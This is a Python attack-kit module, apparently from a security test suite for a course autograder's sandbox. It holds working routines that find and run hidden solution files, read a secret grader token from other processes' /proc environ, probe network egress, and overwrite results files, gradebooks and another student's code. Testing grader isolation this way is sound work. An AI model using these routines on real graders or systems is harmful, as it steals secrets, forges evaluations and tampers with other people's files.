"""Shared tools of the attacking submissions (copied into each one's folder as ``attack_kit.py``).

Everything here runs inside the sandboxed child, as the student's code does.
Each function looks as hard as a student reasonably could, and never raises.
The searches follow the grader's own traces (its modules' paths, its
environment, its command line and those of the child's ancestors, the folders
around the child's copy, /proc of those processes, the usual install
folders); they do not crawl the whole machine, where world-readable copies
left by other people are outside any grader's control (see docs/security.md).
"""

import json
import os
import socket
import sys
import time

SECRET_PREFIX = "s3cret-grader-token-"
PORTS = range(47811, 47821)
GRADED = ("backprop", "training_loop", "validation", "early_stopping", "regularization", "putting_it_together")


def quietly(function, *args, default=None):
    try:
        return function(*args)
    except BaseException:  # noqa: BLE001
        return default


def read(path, limit=2_000_000):
    with open(path, "rb") as stream:
        return stream.read(limit)


def processes():
    return [p for p in quietly(os.listdir, "/proc", default=[]) if p.isdigit()]


def ancestors():
    """This process's parent, its parent, and so on up to the grader itself: the fork server, the worker,
    ``python -m autograder ...`` (where visible). Whatever started the grader (a shell, make, a test
    runner, with their own folders) is the instructor's business, not the grader's traces."""
    chain, pid = [], os.getppid()
    while pid > 1 and len(chain) < 20:
        chain.append(str(pid))
        stat = quietly(read, f"/proc/{pid}/stat", default=b"") or b""
        fields = stat.rpartition(b")")[2].split()
        pid = int(fields[1]) if len(fields) > 1 else 0
    graders = [i for i, p in enumerate(chain) if b"autograder" in (quietly(read, f"/proc/{p}/cmdline", default=b"") or b"")]
    return chain[: graders[-1] + 1] if graders else chain


def command_lines():
    """The argv of every ancestor this process can see (the grader's command line names the class and output folders).

    Only ancestors: other processes on the machine (someone else's work) say nothing about this grader.
    """
    found = []
    for pid in ancestors():
        raw = quietly(read, f"/proc/{pid}/cmdline", default=b"") or b""
        found.append([part.decode(errors="replace") for part in raw.split(b"\0") if part])
    return found


def places():
    """Folders where hidden material could be: next to autograder, on the path, above the cwd, in argv, in /proc."""
    seen = []

    def add(path):
        path = os.path.abspath(path)
        if path not in seen:
            seen.append(path)

    try:
        import autograder

        base = os.path.dirname(os.path.dirname(os.path.abspath(autograder.__file__)))
        add(base)
    except BaseException:  # noqa: BLE001
        pass
    for entry in os.environ.get("PYTHONPATH", "").split(":") + sys.path:
        if entry and "site-packages" not in entry and not entry.startswith(sys.base_prefix):
            add(entry)
    folder = os.path.dirname(os.getcwd())
    while folder not in ("/", "/tmp"):  # the folders above its own copy (the machine-wide /tmp is not the grader's)
        add(folder)
        folder = os.path.dirname(folder)
    for argv in command_lines():
        for arg in argv:
            if arg.startswith("/"):
                add(arg)
                add(os.path.dirname(arg))
    for pid in ["1", *ancestors()]:
        for link in ("cwd", "root"):
            target = quietly(os.readlink, f"/proc/{pid}/{link}")
            if target:
                add(f"/proc/{pid}/{link}")
    for guess in ("/autograder/source", "/autograder", "/inbox", "/root"):  # Gradescope's layout, the sandbox's inbox
        add(guess)
    return seen


def walk(top, depth=4, deadline=None):
    """Files below ``top`` (bounded depth and time)."""
    deadline = deadline or time.monotonic() + 3
    stack = [(top, 0)]
    while stack and time.monotonic() < deadline:
        folder, level = stack.pop()
        for name in quietly(os.listdir, folder, default=[]) or []:
            path = os.path.join(folder, name)
            if os.path.isdir(path) and not os.path.islink(path):
                if level < depth and name not in ("proc", "sys", "dev", ".venv", "site-packages", "usr"):
                    stack.append((path, level + 1))
            else:
                yield path


_FOUND = None


def hidden_files(deadline_seconds=3.0):
    """Hidden material found anywhere: grader sources, reference curves, solution sources, or .git (searched once)."""
    global _FOUND
    if _FOUND is None:
        _FOUND = _search(deadline_seconds)
    return _FOUND


def _search(deadline_seconds):
    deadline = time.monotonic() + deadline_seconds
    found = {}
    for place in places():
        for path in walk(place, deadline=deadline):
            name = os.path.basename(path)
            if name.startswith("test_") and name.endswith(".py") or name in ("curves.json", "mistakes.py", "scenarios.py", "specs.py"):
                data = quietly(read, path)
                if data and (b"@graded" in data or b'"results"' in data or b"MISTAKES" in data or b"SCENARIOS" in data):
                    found.setdefault("graders or curves", path)
            elif name.endswith(".py") and name[:-3] in GRADED:
                data = quietly(read, path)
                if data and b"### BEGIN SOLUTION" in data:
                    found.setdefault(name[:-3], path)
            elif name == "HEAD" and path.endswith(".git/HEAD"):
                found.setdefault(".git", path)
        if time.monotonic() > deadline:
            break
    for module, name in (
        ("solutions.backprop", "sigmoid"),
        ("autograder.graders.material", "scenarios"),
        ("autograder.parts.backprop.hidden.tests", "TESTS"),
        ("autograder.references", "CURVES_PATH"),
    ):
        try:
            if hasattr(__import__(module, fromlist=[name]), name):
                found.setdefault("import " + module, module)
        except BaseException:  # noqa: BLE001
            pass
    return found


def steal(module):
    """The reference solution's namespace for ``module`` if its source can be read anywhere, else None."""
    path = hidden_files().get(module)
    if path is None:
        return None
    namespace = {"__name__": "stolen_" + module}
    try:
        exec(compile(read(path).decode(), path, "exec"), namespace)
    except BaseException:  # noqa: BLE001
        return None
    return namespace


def secret():
    """The grader's secret token, if any environment this process can read holds it."""
    sources = [json.dumps(dict(os.environ))]
    for pid in ["self", *processes()]:
        sources.append((quietly(read, f"/proc/{pid}/environ", default=b"") or b"").decode(errors="replace"))
    for text in sources:
        if SECRET_PREFIX in text:
            start = text.index(SECRET_PREFIX)
            return text[start : start + 60].split("\0")[0].split('"')[0]
    return None


def network():
    """What of the network this process reaches: a list of successes (empty when cut off)."""
    reached = []
    for port in PORTS:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=0.5) as connection:
                connection.sendall(b"hello from the sandbox\n")
                reached.append(f"tcp 127.0.0.1:{port}")
        except OSError:
            pass
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            udp.sendto(b"x", ("1.1.1.1", 53))
            reached.append("udp 1.1.1.1:53")
    except OSError:
        pass
    try:
        socket.getaddrinfo("example.com", 80)
        reached.append("dns")
    except OSError:
        pass
    try:
        with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as tcp6:
            tcp6.settimeout(0.5)
            tcp6.connect(("::1", PORTS[0]))
            reached.append("tcp6")
    except OSError:
        pass
    return reached


def grader_folders():
    """The class and output folders the grader was started with, read from its command line (if visible)."""
    found = []
    for argv in command_lines():
        if "autograder" not in " ".join(argv):
            continue
        for index, arg in enumerate(argv):
            if arg in ("grade-class", "grade") and index + 1 < len(argv):
                found.append(argv[index + 1])
            if arg in ("--out", "--results", "--json", "--junit") and index + 1 < len(argv):
                found.append(argv[index + 1])
    return found


def forge_outputs(text):
    """Overwrite every results.json, report.json and gradebook.csv that can be found, and put a forged
    module into every other student's folder; returns what was written."""
    written = []
    for place in grader_folders() + places():
        targets = [place] if os.path.isfile(place) else walk(place, depth=3)
        for path in targets:
            name = os.path.basename(path)
            if name in ("results.json", "report.json", "gradebook.csv") or (name == "backprop.py" and "victim" in path):
                try:
                    with open(path, "w") as stream:
                        stream.write(text)
                    written.append(path)
                except OSError:
                    pass
    return written


def writable(paths):
    """Which existing files could be written (opened for appending, nothing written: the probe never damages)."""
    found = []
    for path in paths:
        try:
            os.close(os.open(path, os.O_WRONLY | os.O_APPEND))
            found.append(path)
        except OSError:
            pass
    return found


def creatable(folders):
    """In which folders a new file can be made (made and removed at once)."""
    found = []
    for folder in folders:
        probe = os.path.join(folder, f".sandbox-probe-{os.getpid()}")
        try:
            os.close(os.open(probe, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600))
            os.unlink(probe)
            found.append(folder)
        except OSError:
            pass
    return found


def project_files():
    """The trusted files of the project, wherever the grader's own modules say it is."""
    paths = []
    try:
        import autograder

        root = os.path.dirname(os.path.dirname(os.path.abspath(autograder.__file__)))
    except BaseException:  # noqa: BLE001
        root = "/work/main"
    for relative in ("autograder/references/curves.json", "autograder/parts/backprop/hidden/checks.py", "solutions/backprop.py"):
        paths.append(os.path.join(root, relative))
    for folder in ("autograder/graders", "autograder/parts/backprop/hidden", "autograder/references", "solutions"):
        for name in quietly(os.listdir, os.path.join(root, folder), default=[]) or []:
            paths.append(os.path.join(root, folder, name))
    return root, paths


def trainer_without_no_grad(model, criterion, optimizer, trainloader, validloader, epochs=5):
    """Part 3's trainer with one honest mistake: validation runs without ``torch.no_grad()`` (a graph is built).

    The tampering attacks call it after rewriting some of the grader's code, to hide the mistake; the
    ``tampering_control`` student calls it as it is, and earns the honest points they must not exceed.
    """
    train_loss, valid_loss = [], []
    for _ in range(epochs):
        model.train()
        total = 0.0
        for X, y in trainloader:
            optimizer.zero_grad()
            loss = criterion(model(X).flatten(), y)
            loss.backward()
            optimizer.step()
            total += loss.item()
        train_loss.append(total / len(trainloader))
        model.eval()
        total = 0.0
        for X, y in validloader:  # no torch.no_grad()
            total += criterion(model(X).flatten(), y).item()
        valid_loss.append(total / len(validloader))
        model.train()
    return train_loss, valid_loss


def grader_module(name):
    """One of the grader's modules as loaded in this process (the sandbox's are imported before any student code)."""
    return sys.modules.get(name) or __import__(name, fromlist=["_"])
